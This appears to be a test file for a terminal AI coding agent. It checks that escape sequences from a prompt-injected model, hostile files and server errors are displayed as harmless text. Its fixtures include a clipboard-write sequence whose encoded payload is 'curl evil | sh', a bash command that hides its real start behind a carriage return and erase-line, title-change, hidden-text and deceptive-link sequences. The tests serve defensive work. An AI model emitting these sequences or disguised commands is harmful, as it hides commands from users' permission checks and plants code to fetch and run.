/**
 * Terminal escapes from outside the UI: a prompt-injected model asks to run a command that hides its real start
 * behind a carriage return and "erase line", a hostile file carries OSC 52 (write the clipboard), a window-title
 * change and a screen clear, and the model's own answer carries them too. The Ink UI shows each as text (`^[`,
 * `^M`), so the permission question shows the whole command, and none of the sequences reaches the terminal. The
 * plain UI and `keel -p` on a terminal show them the same way; `keel -p` into a pipe writes the answer exactly.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { callTool, say, type ScriptStep } from '../../helpers/anthropic-server.js';
import { runKeel } from '../../helpers/cli.js';
import { terminalFixture } from '../../helpers/terminal-fixture.js';
import { hasTmux, waitForDialog, type Terminal } from '../../helpers/tmux.js';
import type { Workspace } from '../../helpers/workspace.js';

const fixture = terminalFixture();

const ESC = '\x1b';
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`;
const TITLE = `${ESC}]0;PWNED-TITLE\x07`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const CONCEAL = `${ESC}[8mhidden-text${ESC}[28m`;

/** Keel's Ink UI on a terminal whose every written byte is recorded. */
async function start(script: ScriptStep[], prepare?: (ws: Workspace) => void): Promise<{ t: Terminal; bytes: () => Promise<string> }> {
  const ws = fixture.workspace();
  prepare?.(ws);
  const server = await fixture.server(script);
  const t = fixture.terminal({ ws, server, width: 160 });
  const file = path.join(fixture.tempDir('keel-escapes-'), 'bytes');
  t.record(file);
  await t.waitFor(/ask mode/);
  /** Every byte written so far: the recording stops and is read once all of it is in the file. */
  const bytes = async () => {
    await t.stopRecording();
    return readFileSync(file, 'latin1');
  };
  return { t, bytes };
}

describe.skipIf(!hasTmux)('terminal escapes from the model and from files', () => {
  it('a permission question shows the whole command: a carriage return and "erase line" cannot hide its start', async () => {
    const canary = path.join(mkdtempSync(path.join(tmpdir(), 'keel-canary-')), 'ran');
    const { t } = await start([callTool('bash', { command: `touch ${canary} #\r${ESC}[2Kls -la` }), say('done')]);
    t.type('list the files');
    t.keys('Enter');
    const screen = await waitForDialog(t, /bash wants permission[\s\S]*4\. Deny, and don't ask again/);
    expect(screen).toContain(`touch ${canary} #^M^[[2Kls -la`);
    t.keys('3');
    await t.waitFor(/done/);
    expect(() => readFileSync(canary)).toThrow();
    rmSync(path.dirname(canary), { recursive: true, force: true });
  });

  it("a file's and an answer's clipboard, title, clear-screen and conceal sequences are shown, never sent to the terminal", async () => {
    const evil = `first line ${CLIPBOARD}${TITLE}\n${CLEAR}second ${CONCEAL}\nthird\u202Eevil\n`;
    const { t, bytes } = await start([callTool('read_file', { path: 'notes.txt' }), say(`Read it. ${CLIPBOARD} ${TITLE} the end`)], (w) => w.write('notes.txt', evil));
    t.type('read notes.txt');
    t.keys('Enter');
    const screen = await t.waitFor(/the end/);
    expect(screen).toContain('^[]52;c;Y3VybCBldmlsIHwgc2g=^G');
    expect(screen).toContain('^[[8mhidden-text^[[28m');
    expect(screen).toContain('third<U+202E>evil');
    const written = await bytes();
    expect(written).not.toContain(`${ESC}]52;`);
    expect(written).not.toContain(`${ESC}]0;PWNED`);
    expect(written).not.toContain(`${ESC}[8m`);
    expect(written).not.toContain(`${ESC}[2J`);
  });
});

/** An answer carrying every kind of sequence a hostile model might send: none of them may reach a terminal. */
const CURSOR_UP = `${ESC}[3A${ESC}[2K`;
const HYPERLINK = `${ESC}]8;;http://127.0.0.1:9/evil${ESC}\\click here${ESC}]8;;${ESC}\\`;
const HOSTILE = `Answer: ${CLIPBOARD}${TITLE} ${CURSOR_UP}${CONCEAL} ${HYPERLINK} ${ESC}[31mred${ESC}[0m bell\x07 the end`;
const SEQUENCES = [`${ESC}]52;`, `${ESC}]0;PWNED`, `${ESC}[3A`, `${ESC}[2K`, `${ESC}[8m`, `${ESC}]8;;`, `${ESC}[31m`, '\x07'];

/** What the hostile answer looks like in caret notation (read with the terminal's wrapping undone). */
const SHOWN = ['^[]52;c;Y3VybCBldmlsIHwgc2g=^G^[]0;PWNED-TITLE^G', '^[[3A^[[2K^[[8mhidden-text^[[28m', '^[]8;;http://127.0.0.1:9/evil^[\\click here^[]8;;^[\\', '^[[31mred^[[0m bell^G the end'];

/** The answer, held back until `release()`: the recording of the terminal starts before keel writes anything. */
function gatedAnswer(text: string): { step: ScriptStep; release: () => void } {
  let release!: () => void;
  const open = new Promise<void>((resolve) => (release = resolve));
  return { step: say(text, { beforeEvent: (ctx) => (ctx.index === 0 ? open : undefined) }), release };
}

describe.skipIf(!hasTmux)('terminal escapes in keel -p and the plain UI', () => {
  it('keel -p on a terminal shows the answer\'s sequences in caret notation and writes none of them', async () => {
    const ws = fixture.workspace();
    const { step, release } = gatedAnswer(HOSTILE);
    const server = await fixture.server([step]);
    const term = fixture.terminal({ ws, server, width: 160, args: ['-p', 'say something'] });
    const file = path.join(fixture.tempDir('keel-escapes-'), 'bytes');
    term.record(file);
    release();
    expect(await term.waitFor(/EXIT=\d+/)).toContain('EXIT=0');
    const shown = term.joinedHistory();
    for (const part of SHOWN) expect(shown).toContain(part);
    const written = readFileSync(file, 'latin1');
    expect(written).toContain('the end');
    for (const sequence of SEQUENCES) expect(written).not.toContain(sequence);
  });

  it("keel -p on a terminal shows a server error's sequences in its one line on stderr, and writes none of them", async () => {
    const ws = fixture.workspace();
    const server = await fixture.server([{ status: 400, errorMessage: `bad request ${CLIPBOARD}${TITLE} end of error` }]);
    const term = fixture.terminal({ ws, server, width: 200, args: ['-p', 'say something'] });
    const file = path.join(fixture.tempDir('keel-escapes-'), 'bytes');
    term.record(file);
    expect(await term.waitFor(/EXIT=\d+/)).toContain('EXIT=1');
    expect(term.joinedHistory()).toMatch(/^keel: .*bad request \^\[\]52;c;Y3VybCBldmlsIHwgc2g=\^G\^\[\]0;PWNED-TITLE\^G end of error/m);
    const written = readFileSync(file, 'latin1');
    expect(written).toContain('end of error');
    for (const sequence of SEQUENCES) expect(written).not.toContain(sequence);
  });

  it('keel -p into a pipe writes the answer byte for byte, sequences and all', async () => {
    const ws = fixture.workspace();
    const server = await fixture.server([say(`${HOSTILE}\r\nsecond line\r\n`)]);
    const run = await runKeel(['-p', 'say something'], { cwd: ws.dir, env: { KEEL_HOME: ws.home, ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: server.url } });
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(`${HOSTILE}\r\nsecond line\r\n`);
  });

  it('the plain UI shows the answer\'s sequences in caret notation (colours taken out) and writes none of them, resumed too', async () => {
    const { step, release } = gatedAnswer(HOSTILE);
    const { ws, server, term } = await fixture.start([step], { width: 160, args: ['--ui', 'plain'], ready: /^> ?$/m });
    const dir = fixture.tempDir('keel-escapes-');
    term.record(path.join(dir, 'bytes'));
    term.type('say something');
    term.keys('Enter');
    release();
    await term.waitFor(/the end/);
    // The plain UI draws no colours or styles, so those (conceal included) are taken out; every other sequence is shown.
    const parts = [SHOWN[0]!, '^[[3A^[[2Khidden-text', SHOWN[2]!, 'red bell^G the end'];
    for (const part of parts) expect(term.joinedHistory()).toContain(part);
    term.keys('C-d');
    await term.waitFor(/EXIT=0/);
    // The same answer printed again as the history of the resumed session.
    const resumed = fixture.terminal({ ws, server, width: 160, args: ['--ui', 'plain', '--continue'] });
    resumed.record(path.join(dir, 'resumed-bytes'));
    await resumed.waitFor(/Resumed session/);
    for (const part of parts) expect(resumed.joinedHistory()).toContain(part);
    for (const file of ['bytes', 'resumed-bytes']) {
      const written = readFileSync(path.join(dir, file), 'latin1');
      for (const sequence of SEQUENCES) expect(written).not.toContain(sequence);
    }
  });
});
